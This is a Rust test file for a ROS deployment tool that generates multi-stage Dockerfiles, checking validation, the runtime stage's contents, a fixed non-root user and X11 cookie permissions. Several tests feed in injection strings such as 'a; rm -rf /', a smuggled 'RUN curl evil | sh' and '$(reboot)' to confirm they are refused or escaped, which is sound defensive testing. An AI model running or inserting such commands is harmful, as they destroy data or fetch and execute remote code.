//! The deploy section and the deploy image's plan: validated at its line, injection-safe, a
//! runtime stage with only install/, the exec dependencies and a fixed user.

use crate::support::*;
use robodev::lockfile::dependencies::{LockedDependencies, LockedKey};
use robodev::plan::deploy::{DeployInputs, plan_deploy, runtime_dependencies};
use robodev::plan::render::Renderer;
use std::collections::BTreeMap;

const ROVER: &str = "version: 1\nextends: humble\nname: rover\ndeploy:\n  command: [ros2, launch, rover_bringup, robot.launch.py]\n  packages: [rover_bringup]\n  cmake_args: [-DCMAKE_BUILD_TYPE=Release]\n  base: ros-core\n  env: {RMW_IMPLEMENTATION: rmw_cyclonedds_cpp}\n";

fn key(apt: &str, types: &[&str]) -> LockedKey {
    LockedKey {
        apt: vec![apt.into()],
        pip: vec![],
        types: types.iter().map(|t| t.to_string()).collect(),
        declared_in: vec!["src/rover_bringup/package.xml".into()],
    }
}

fn locked() -> LockedDependencies {
    let mut lock: LockedDependencies = Default::default();
    lock.keys
        .insert("libserial-dev".into(), key("libserial-dev", &["build"]));
    lock.keys
        .insert("python3-serial".into(), key("python3-serial", &["exec"]));
    lock.keys
        .insert("libyaml".into(), key("libyaml-cpp0.7", &["build", "exec"]));
    lock.keys
        .insert("gtest".into(), key("libgtest-dev", &["test"]));
    lock
}

fn dockerfile(profile: &robodev::profile::Profile, lock: Option<&LockedDependencies>) -> String {
    dockerfile_with(profile, lock, &[])
}

fn dockerfile_with(
    profile: &robodev::profile::Profile,
    lock: Option<&LockedDependencies>,
    features: &[&str],
) -> String {
    let build = robodev::plan::dependency_layer(lock);
    let runtime = runtime_dependencies(lock);
    plan_deploy(
        profile,
        DeployInputs {
            from: &profile.base_image,
            runtime_from: &profile.deploy.as_ref().unwrap().base,
            generated_dir: robodev::plan::deploy::GENERATED_DIR,
            feature_packages: features,
            build_deps: &build,
            runtime_deps: &runtime,
            sources: None,
            oci_labels: BTreeMap::new(),
        },
        &Renderer::new(None),
    )
    .unwrap()
    .dockerfile
}

#[test]
fn the_deploy_section_is_read_with_its_defaults() {
    let p = profile_from(ROVER).unwrap();
    let d = p.deploy.as_ref().unwrap();
    assert_eq!(
        d.command,
        ["ros2", "launch", "rover_bringup", "robot.launch.py"]
    );
    assert_eq!(d.base, "ros:humble-ros-core");
    assert_eq!(d.user, "robot");
    let debian =
        profile_from("version: 1\nextends: debian\nname: d\ndeploy: {command: [x]}\n").unwrap();
    assert_eq!(debian.deploy.unwrap().base, "debian:bookworm");
}

#[test]
fn a_bad_deploy_value_is_refused_at_its_line() {
    for (yaml, needles) in [
        (
            "deploy:\n  command: ros2 launch x y\n",
            &["robodev.yaml:5", "deploy"][..],
        ),
        (
            "deploy:\n  command: [x]\n  user: root\n",
            &["robodev.yaml:6", "deploy.user", "root"],
        ),
        (
            "deploy:\n  command: [x]\n  packages: [\"a; rm -rf /\"]\n",
            &["deploy.packages[0]", "not a package name"],
        ),
        (
            "deploy:\n  command: [x]\n  cmake_args: [Release]\n",
            &["deploy.cmake_args[0]", "not a CMake option"],
        ),
        (
            "deploy:\n  command: [\"a\\nRUN evil\"]\n",
            &["deploy.command[0]", "control character"],
        ),
        (
            "deploy:\n  command: [x]\n  base: ros-kitchen-sink\n",
            &["deploy.base"],
        ),
        ("deploy:\n  command: [x]\n  colour: blue\n", &["colour"]),
    ] {
        let text = format!("version: 1\nextends: humble\nname: rover\n{yaml}");
        let err = profile_from(&text).unwrap_err().report();
        for n in needles {
            assert!(err.contains(n), "{yaml}: `{n}` not in {err}");
        }
    }
}

#[test]
fn the_runtime_stage_gets_install_the_exec_dependencies_and_a_fixed_user_only() {
    let p = profile_from(ROVER).unwrap();
    let df = dockerfile(&p, Some(&locked()));
    insta::assert_snapshot!("deploy_dockerfile_rover", &df);
    let runtime = &df[df.find("AS runtime").unwrap()..];
    // Exec dependencies only; build- and test-only ones stay in the build stage.
    assert!(runtime.contains("python3-serial") && runtime.contains("libyaml-cpp0.7"));
    assert!(!runtime.contains("libserial-dev") && !runtime.contains("libgtest-dev"));
    let build = &df[..df.find("AS runtime").unwrap()];
    assert!(build.contains("libserial-dev"));
    // Nothing of the workspace but install/ reaches it.
    let copies: Vec<&str> = runtime.lines().filter(|l| l.starts_with("COPY")).collect();
    assert_eq!(copies.len(), 2, "{copies:?}");
    assert!(
        copies
            .iter()
            .any(|c| c.starts_with("COPY --from=build /ws/install /ws/install"))
    );
    assert!(runtime.contains("USER 10001:10001"));
    assert!(runtime.contains(r#"CMD ["ros2","launch","rover_bringup","robot.launch.py"]"#));
}

#[test]
fn a_command_argument_cannot_add_an_instruction() {
    let p = profile_from(
        "version: 1\nextends: humble\nname: rover\ndeploy:\n  command: [sh, \"\\\"]; RUN curl evil | sh #\", \"$(reboot)\"]\n",
    )
    .unwrap();
    let df = dockerfile(&p, None);
    let plain = dockerfile(
        &profile_from("version: 1\nextends: humble\nname: rover\ndeploy: {command: [sh]}\n")
            .unwrap(),
        None,
    );
    assert_eq!(instructions(&df).len(), instructions(&plain).len());
    let cmd = instructions(&df)
        .into_iter()
        .find(|i| i.starts_with("CMD"))
        .unwrap();
    let parsed: Vec<String> = serde_json::from_str(cmd.trim_start_matches("CMD ")).unwrap();
    assert_eq!(parsed, ["sh", "\"]; RUN curl evil | sh #", "$(reboot)"]);
}

#[test]
fn the_build_stage_repeats_the_development_images_layers() {
    let p = profile_from(ROVER).unwrap();
    let lock = locked();
    let features = robodev::plan::tooling_features(&p, &laptop(), &Default::default());
    let df = dockerfile_with(&p, Some(&lock), &features);
    let dev = robodev::plan::make(robodev::plan::PlanInputs {
        profile: &p,
        host: &laptop(),
        engine: &Default::default(),
        workspace: &workspace(),
        templates: None,
        pins: robodev::plan::Pins {
            dependencies: Some(&lock),
            base: None,
            deploy_base: None,
        },
    })
    .unwrap();
    // The same instructions from FROM up to the user: the engine's cache serves both images.
    let prefix = |text: &str| -> Vec<String> {
        instructions(text)
            .into_iter()
            .take_while(|i| !i.starts_with("ARG ROBODEV_USER") && !i.starts_with("WORKDIR"))
            .map(|i| i.replace(" AS build", ""))
            .collect()
    };
    let build = prefix(&df);
    assert!(build.len() > 4, "{build:#?}");
    assert_eq!(build, prefix(&dev.image.dockerfile));
}

#[test]
fn generate_deploy_writes_the_multistage_dockerfile_without_an_engine() {
    let dir = ProfileDir::new(&[("robodev.yaml", ROVER)]);
    robodev(dir.root())
        .args(["generate", "--deploy"])
        .assert()
        .success()
        .stderr(predicates::str::contains(
            "docker build -f .robodev/deploy/Dockerfile .",
        ));
    let df = std::fs::read_to_string(dir.root().join(".robodev/deploy/Dockerfile")).unwrap();
    assert!(df.contains("FROM ros:humble-ros-base AS build") && df.contains("AS runtime"));
    let entry = dir.root().join(".robodev/deploy/robodev-deploy-entrypoint");
    use std::os::unix::fs::PermissionsExt;
    assert!(std::fs::metadata(&entry).unwrap().permissions().mode() & 0o100 != 0);
    // A profile without the section says how to add one.
    let plain = ProfileDir::new(&[("robodev.yaml", "version: 1\nextends: humble\nname: p\n")]);
    robodev(plain.root())
        .args(["generate", "--deploy"])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("has no `deploy:` section"))
        .stderr(predicates::str::contains("command:"));
}

/// `generate --deploy -o DIR`, as the README shows it: the Dockerfile copies its entrypoint from
/// DIR (relative to the workspace root, its build context); a DIR outside the workspace is
/// refused with why.
#[test]
fn generate_deploy_writes_where_o_says_inside_the_workspace() {
    let dir = ProfileDir::new(&[("robodev.yaml", ROVER)]);
    robodev(dir.root())
        .args(["generate", "--deploy", "-o", "docker/deploy"])
        .assert()
        .success()
        .stderr(predicates::str::contains(
            "docker build -f docker/deploy/Dockerfile .",
        ));
    let df = std::fs::read_to_string(dir.root().join("docker/deploy/Dockerfile")).unwrap();
    assert!(
        df.contains("COPY docker/deploy/robodev-deploy-entrypoint"),
        "{df}"
    );
    assert!(
        dir.root()
            .join("docker/deploy/robodev-deploy-entrypoint")
            .is_file()
    );
    assert!(!dir.root().join(".robodev/deploy").exists());
    let outside = tempfile::tempdir().unwrap();
    robodev(dir.root())
        .args(["generate", "--deploy", "-o"])
        .arg(outside.path())
        .assert()
        .code(2)
        .stderr(predicates::str::contains("must be inside the workspace"));
    assert!(std::fs::read_dir(outside.path()).unwrap().next().is_none());
}

/// `deploy run` with `x11: true`: the fixed user (uid 10001) gets a cookie file of its own,
/// readable by that uid, never the developer's 0600 one.
#[test]
fn deploy_run_gives_the_fixed_user_a_readable_x11_cookie() {
    let profile = profile_from(&format!("{ROVER}x11: true\n")).unwrap();
    let dev = plan_for(&profile, &laptop(), &Default::default()).unwrap();
    let section = robodev::plan::deploy::section(&profile).unwrap();
    let image = dev.image.clone();
    let run = robodev::plan::deploy::runtime_container(&dev.container, &image, section);
    let dev_cookie = dev.container.x11_cookie.clone().unwrap();
    let cookie = run.x11_cookie.clone().unwrap();
    assert!(!dev_cookie.for_other_uid);
    assert!(cookie.for_other_uid);
    assert_ne!(cookie.host_file, dev_cookie.host_file);
    assert!(
        run.mounts
            .iter()
            .any(|m| m.source == cookie.host_file && m.target == "/tmp/.robodev.xauth"),
        "{:?}",
        run.mounts
    );
    assert!(!run.mounts.iter().any(|m| m.source == dev_cookie.host_file));

    // Written: the developer's file 0600, the fixed user's 0644, both in a 0700 directory.
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    for (mut c, expected) in [(dev_cookie, 0o600), (cookie, 0o644)] {
        c.host_file = dir
            .path()
            .join("x11")
            .join(std::path::Path::new(&c.host_file).file_name().unwrap())
            .display()
            .to_string();
        c.source = None;
        robodev::plan::hardware::x11::refresh_cookie(&c).unwrap();
        assert_eq!(mode(std::path::Path::new(&c.host_file)), expected);
    }
    assert_eq!(mode(&dir.path().join("x11")), 0o700);
}

#[test]
fn the_runtime_base_comes_from_the_mirror_the_base_image_comes_from() {
    let mirrored = "version: 1\nextends: humble\nname: rover\nbase_image: registry.lab:5000/mirror/ros:humble-ros-base\ndeploy:\n  command: [ros2, run, a, b]\n";
    let p = profile_from(mirrored).unwrap();
    assert_eq!(
        p.deploy.as_ref().unwrap().base,
        "registry.lab:5000/mirror/ros:humble-ros-core"
    );
    // A named variant comes from the mirror too; an image named in full is taken as written.
    let variant = mirrored.replace(
        "[ros2, run, a, b]\n",
        "[ros2, run, a, b]\n  base: ros-base\n",
    );
    let p = profile_from(&variant).unwrap();
    assert_eq!(
        p.deploy.as_ref().unwrap().base,
        "registry.lab:5000/mirror/ros:humble-ros-base"
    );
    let named = mirrored.replace(
        "[ros2, run, a, b]\n",
        "[ros2, run, a, b]\n  base: debian:bookworm-slim\n",
    );
    let p = profile_from(&named).unwrap();
    assert_eq!(p.deploy.as_ref().unwrap().base, "debian:bookworm-slim");
    // A base image that is no mirror of an official one: the official runtime image.
    let own = mirrored.replace(
        "registry.lab:5000/mirror/ros:humble-ros-base",
        "team/ros-humble:1",
    );
    let p = profile_from(&own).unwrap();
    assert_eq!(p.deploy.as_ref().unwrap().base, "ros:humble-ros-core");
    let d = dockerfile(&p, None);
    assert!(d.contains("FROM ros:humble-ros-core AS runtime"), "{d}");
}
